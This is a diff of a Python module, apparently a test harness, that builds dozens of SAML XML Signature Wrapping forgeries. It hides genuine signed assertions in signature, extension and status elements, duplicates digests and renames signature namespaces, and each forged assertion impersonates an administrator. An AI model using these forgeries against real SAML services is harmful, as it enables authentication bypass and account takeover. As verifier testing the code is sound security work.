@@ -6,106 +6,14 @@ someone calls themselves `ADMIN`. How they are named follows Somorovsky et al., 
 
 from __future__ import annotations
 
-import copy
 from collections.abc import Callable, Iterator
 
 from lxml import etree
 
+from .message_parts import ADMIN, Genuine, add_extensions, digest_of, put_in, wrapped
 from .saml_names import DS, MD, SAML, SAMLP, tag
-from .saml_response import new_id
 
-ADMIN = "admin@evil.example.com"
-Attack = Callable[["Genuine"], etree._Element]
-
-
-class Genuine:
-    """A good Response; every method gives copies."""
-
-    def __init__(self, root: etree._Element) -> None:
-        self._root = root
-
-    def response(self) -> etree._Element:
-        return copy.deepcopy(self._root)
-
-    def assertion(self) -> etree._Element:
-        return copy.deepcopy(self._root.find(tag("saml:Assertion")))
-
-    def signature(self) -> etree._Element:
-        """The Assertion's signature, or the Response's when only that is signed."""
-        found = self._root.find(f"{tag('saml:Assertion')}/{tag('ds:Signature')}")
-        return copy.deepcopy(self._root.find(tag("ds:Signature")) if found is None else found)
-
-    def response_signature(self) -> etree._Element:
-        """The Response's signature, or the Assertion's when only that is signed."""
-        found = self._root.find(tag("ds:Signature"))
-        return self.signature() if found is None else copy.deepcopy(found)
-
-    def bare_response(self) -> etree._Element:
-        return without_signature(self.response())
-
-    def bare_assertion(self) -> etree._Element:
-        return without_signature(self.assertion())
-
-    def forged_assertion(self, *, same_id: bool = False, signature: bool = False) -> etree._Element:
-        """A copy for another user, with another ID unless told otherwise, with or without a signature."""
-        forged = self.bare_assertion()
-        forged.find(f"{tag('saml:Subject')}/{tag('saml:NameID')}").text = ADMIN
-        if not same_id:
-            forged.set("ID", new_id())
-        if signature:
-            forged.insert(1, self.signature())
-        return forged
-
-    def empty_response(self, *, signature: bool = False) -> etree._Element:
-        """A Response without an Assertion, with another ID."""
-        response = self.bare_response()
-        response.remove(response.find(tag("saml:Assertion")))
-        response.set("ID", new_id())
-        if signature:
-            response.insert(1, self.response_signature())
-        return response
-
-    def forged_response(self, *, signature: bool = False) -> etree._Element:
-        response = self.empty_response(signature=signature)
-        response.append(self.forged_assertion())
-        return response
-
-    def response_around(self, *children: etree._Element) -> etree._Element:
-        """A Response as received (with its signature, when it has one) around other children."""
-        response = self.response()
-        response.remove(response.find(tag("saml:Assertion")))
-        response.extend(children)
-        return response
-
-
-def without_signature(element: etree._Element) -> etree._Element:
-    for each in element.findall(tag("ds:Signature")):
-        element.remove(each)
-    return element
-
-
-def wrapped(name: str, *children: etree._Element) -> etree._Element:
-    """An element around others."""
-    holder = etree.Element(name)
-    holder.extend(children)
-    return holder
-
-
-def add_extensions(response: etree._Element, *children: etree._Element) -> etree._Element:
-    """Put `samlp:Extensions` in its place in a Response."""
-    status = response.find(tag("samlp:Status"))
-    status.addprevious(wrapped(tag("samlp:Extensions"), *children))
-    return response
-
-
-def put_in(parent: etree._Element, path: str, child: etree._Element) -> etree._Element:
-    """Append a child to the element at a path, made where it is missing."""
-    for name in path.split("/"):
-        found = parent.find(tag(name))
-        parent = etree.SubElement(parent, tag(name)) if found is None else found
-    parent.append(child)
-    return parent
-
+Attack = Callable[[Genuine], etree._Element]
 
 # Where the genuine Assertion is put while a forged one stands in its place: (response, forged, genuine)
 Hide = Callable[[etree._Element, etree._Element, etree._Element], object]
@@ -157,8 +65,36 @@ HIDING_PLACES: dict[str, Hide] = {
     "AuthzDecisionStatement": lambda response, forged, genuine: put_in(
         forged, "saml:AuthzDecisionStatement/saml:Evidence", genuine
     ),
-    "child": lambda response, forged, genuine: forged.append(genuine),
-    "first_child": lambda response, forged, genuine: forged.insert(0, genuine),
+    "BaseID": lambda response, forged, genuine: put_in(forged, "saml:Subject/saml:BaseID", genuine),
+    "EncryptedID": lambda response, forged, genuine: put_in(forged, "saml:Subject/saml:EncryptedID", genuine),
+    "EncryptedAttribute": lambda response, forged, genuine: put_in(
+        forged, "saml:AttributeStatement/saml:EncryptedAttribute", genuine
+    ),
+    "Statement": lambda response, forged, genuine: put_in(forged, "saml:Statement", genuine),
+    "ProxyRestriction": lambda response, forged, genuine: put_in(
+        forged, "saml:Conditions/saml:ProxyRestriction", genuine
+    ),
+    "Subject": lambda response, forged, genuine: put_in(forged, "saml:Subject", genuine),
+    "AssertionIssuer": lambda response, forged, genuine: put_in(forged, "saml:Issuer", genuine),
+}
+
+# The same inside of the forged Assertion's Signature.
+SIGNATURE_PLACES = {
+    "KeyInfo": "ds:KeyInfo",
+    "X509Data": "ds:KeyInfo/ds:X509Data",
+    "SPKIData": "ds:KeyInfo/ds:SPKIData",
+    "KeyValue": "ds:KeyInfo/ds:KeyValue",
+    "RetrievalMethod": "ds:KeyInfo/ds:RetrievalMethod",
+    "SignatureProperty": "ds:Object/ds:SignatureProperties/ds:SignatureProperty",
+    "Manifest": "ds:Object/ds:Manifest",
+    "SignedInfo": "ds:SignedInfo",
+    "SignatureValue": "ds:SignatureValue",
+    "CanonicalizationMethod": "ds:SignedInfo/ds:CanonicalizationMethod",
+    "SignatureMethod": "ds:SignedInfo/ds:SignatureMethod",
+    "Reference": "ds:SignedInfo/ds:Reference",
+    "Transform": "ds:SignedInfo/ds:Reference/ds:Transforms/ds:Transform",
+    "DigestMethod": "ds:SignedInfo/ds:Reference/ds:DigestMethod",
+    "DigestValue": "ds:SignedInfo/ds:Reference/ds:DigestValue",
 }
 
 
@@ -170,6 +106,17 @@ def hidden(where: str, *, same_id: bool, signature: bool) -> Attack:
         response = genuine.response_around(forged)
         HIDING_PLACES[where](response, forged, genuine.bare_assertion() if signature else genuine.assertion())
         return response
+
+    return attack
+
+
+def hidden_in_signature(path: str) -> Attack:
+    """XSW-WRAP: the genuine Assertion somewhere inside of the Signature that the forged one shows."""
+
+    def attack(genuine: Genuine) -> etree._Element:
+        forged = genuine.forged_assertion(signature=True)
+        put_in(forged.find(tag("ds:Signature")), path, genuine.bare_assertion())
+        return genuine.response_around(forged)
 
     return attack
 
@@ -235,17 +182,56 @@ def _signature_root(genuine: Genuine) -> etree._Element:
     return _in_signature(genuine.response_signature(), genuine.bare_response(), inside="ds:Object")
 
 
-def _with_second_digest(where: str) -> Attack:
-    """XSW-SIGLOC: the genuine signature's parts once more, where a search over the document finds them first."""
+def _with_second_digest(where: str, part: str) -> Attack:
+    """XSW-SIGLOC: parts of the genuine signature once more, made for the forged content, where a search over the
+    document finds them first."""
 
     def attack(genuine: Genuine) -> etree._Element:
         response = genuine.response()
-        response.find(f"{tag('saml:Assertion')}/{tag('saml:Subject')}/{tag('saml:NameID')}").text = ADMIN
-        info = genuine.signature().find(tag("ds:SignedInfo"))
-        info.find(f"{tag('ds:Reference')}/{tag('ds:DigestValue')}").text = "A" * 43 + "="
+        assertion = response.find(tag("saml:Assertion"))
+        assertion.find(f"{tag('saml:Subject')}/{tag('saml:NameID')}").text = ADMIN
+        copied = wrapped("x", genuine.signature())
+        copied.find(f".//{tag('ds:DigestValue')}").text = digest_of(assertion)
+        found = copied.find(f".//{tag(part)}")
         if where == "Extensions":
-            return add_extensions(response, info)
-        put_in(response, "samlp:Status/samlp:StatusDetail", info)
+            return add_extensions(response, found)
+        put_in(response, "samlp:Status/samlp:StatusDetail", found)
+        return response
+
+    return attack
+
+
+def _signature_elsewhere(genuine: Genuine) -> etree._Element:
+    """SAMLIFY-REF: what is signed and its Signature stand in a place of their own, complete by themselves."""
+    signed = genuine.response()
+    return add_extensions(genuine.forged_response(), wrapped("{urn:x}x", signed))
+
+
+def _inside_of_forged(genuine: Genuine, *, same_id: bool, place: int) -> etree._Element:
+    forged = genuine.forged_assertion(same_id=same_id)
+    forged.insert(len(forged) if place < 0 else place, genuine.assertion())
+    return genuine.response_around(forged)
+
+
+def _beside_each_other(first: str) -> Attack:
+    """SAMLIFY-REF: the root is neither of two Responses, one signed and one forged."""
+
+    def attack(genuine: Genuine) -> etree._Element:
+        both = [genuine.response(), genuine.forged_response()]
+        return wrapped(tag("samlp:Responses"), *(both if first == "genuine" else reversed(both)))
+
+    return attack
+
+
+def _assertion_beside_response(genuine: Genuine) -> etree._Element:
+    return wrapped("{urn:x}x", genuine.assertion(), genuine.forged_response(signature=True))
+
+
+def _signature_renamed(name: str) -> Attack:
+    def attack(genuine: Genuine) -> etree._Element:
+        response = genuine.response()
+        for each in list(response.iter(tag("ds:Signature"))):
+            each.tag = name
         return response
 
     return attack
@@ -259,20 +245,38 @@ ATTACKS: dict[str, Attack] = {
     "XSW3": lambda g: g.response_around(g.forged_assertion(), g.assertion()),
     "XSW3-same_id": lambda g: g.response_around(g.forged_assertion(same_id=True), g.assertion()),
     "XSW3-last": lambda g: g.response_around(g.assertion(), g.forged_assertion()),
+    "XSW4": lambda g: _inside_of_forged(g, same_id=False, place=-1),
+    "XSW4-same_id": lambda g: _inside_of_forged(g, same_id=True, place=-1),
+    "XSW4-first_child": lambda g: _inside_of_forged(g, same_id=False, place=0),
+    "XSW4-behind_issuer": lambda g: _inside_of_forged(g, same_id=False, place=1),
     "XSW5": lambda g: g.response_around(g.forged_assertion(signature=True), g.bare_assertion()),
     "XSW5-first": lambda g: g.response_around(g.bare_assertion(), g.forged_assertion(signature=True)),
     "XSW5-alone": lambda g: g.response_around(g.forged_assertion(same_id=True, signature=True)),
     "XSW6": lambda g: _forged_with_signature(g, None),
     "XSW7": _moved_to_extensions_with_copy,
+    "XSW7-genuine_in_extensions": lambda g: add_extensions(
+        g.response_around(g.forged_assertion(same_id=True)), g.assertion()
+    ),
+    "XSW7-bare_in_extensions": lambda g: add_extensions(g.response_around(g.assertion()), g.bare_assertion()),
     "XSW8": lambda g: _forged_with_signature(g, "ds:Object"),
-    "XSW8-KeyInfo": lambda g: _forged_with_signature(g, "ds:KeyInfo"),
+    "XSW8-in_KeyInfo": lambda g: _forged_with_signature(g, "ds:KeyInfo"),
+    "XSW9": hidden("Extensions", same_id=False, signature=False),
+    "XSW9-same_id": hidden("Extensions", same_id=True, signature=False),
+    "XSW9-with_signature": hidden("Extensions", same_id=False, signature=True),
     "XSW-forged_response": lambda g: g.forged_response(),
     "XSW-forged_response_with_signature": lambda g: g.forged_response(signature=True),
-    "RESP-ONLY-moved_out": lambda g: add_extensions(g.response_around(), g.assertion()),
-    "RESP-ONLY-wrapped": lambda g: _around_signed_response(g, forged=False),
-    "RESP-ONLY-wrapped_beside_forged": lambda g: _around_signed_response(g, forged=True),
-    "XSW-SIGLOC-StatusDetail": _with_second_digest("StatusDetail"),
-    "XSW-SIGLOC-Extensions": _with_second_digest("Extensions"),
+    "RESP-ONLY-SIG-moved_out": lambda g: add_extensions(g.response_around(), g.assertion()),
+    "RESP-ONLY-SIG-wrapped": lambda g: _around_signed_response(g, forged=False),
+    "RESP-ONLY-SIG-wrapped_beside_forged": lambda g: _around_signed_response(g, forged=True),
+    **{
+        f"XSW-SIGLOC-{where}-{part.partition(':')[2]}": _with_second_digest(where, part)
+        for where in ("StatusDetail", "Extensions")
+        for part in ("ds:SignedInfo", "ds:Reference", "ds:DigestValue", "ds:Signature")
+    },
+    "SAMLIFY-REF-in_extensions": _signature_elsewhere,
+    "SAMLIFY-REF-genuine_first": _beside_each_other("genuine"),
+    "SAMLIFY-REF-forged_first": _beside_each_other("forged"),
+    "SAMLIFY-REF-assertion_beside": _assertion_beside_response,
     "ART-WRAP-artifact": _artifact_response,
     "ART-WRAP-soap": lambda g: _soap(g.response()),
     "ART-WRAP-metadata": lambda g: wrapped(f"{{{MD}}}EntityDescriptor", g.response()),
@@ -288,17 +292,24 @@ ATTACKS: dict[str, Attack] = {
     "NS-CONFUSION-assertion_saml1": _renamed(
         tag("saml:Assertion"), "{urn:oasis:names:tc:SAML:1.0:assertion}Assertion"
     ),
+    "NS-CONFUSION-signature_saml": _signature_renamed(f"{{{SAML}}}Signature"),
+    "NS-CONFUSION-signature_slash": _signature_renamed(f"{{{DS}/}}Signature"),
+    "NS-CONFUSION-signature_11": _signature_renamed("{http://www.w3.org/2009/xmldsig11#}Signature"),
+    "NS-CONFUSION-signature_none": _signature_renamed("Signature"),
     "NS-CONFUSION-status": _renamed(tag("samlp:Status"), f"{{{SAML}}}Status"),
-    "LOGOUT-as_response": _renamed(None, f"{{{SAMLP}}}LogoutResponse"),
+    "NS-CONFUSION-logout": _renamed(None, f"{{{SAMLP}}}LogoutResponse"),
 }
 
 
 def all_attacks() -> Iterator[tuple[str, Attack]]:
     """Every attack with its name."""
     yield from ATTACKS.items()
+    for name, path in SIGNATURE_PLACES.items():
+        yield f"XSW-WRAP-Signature-{name}", hidden_in_signature(path)
     for where in HIDING_PLACES:
         for same_id in (False, True):
             for signature in (False, True):
+                kind = "XSW-EXT" if where.startswith("Extensions") else "XSW-WRAP"
                 ids = "same_id" if same_id else "other_id"
-                name = f"XSW-WRAP-{where}-{ids}" + ("-with_signature" if signature else "")
+                name = f"{kind}-{where}-{ids}" + ("-with_signature" if signature else "")
                 yield name, hidden(where, same_id=same_id, signature=signature)
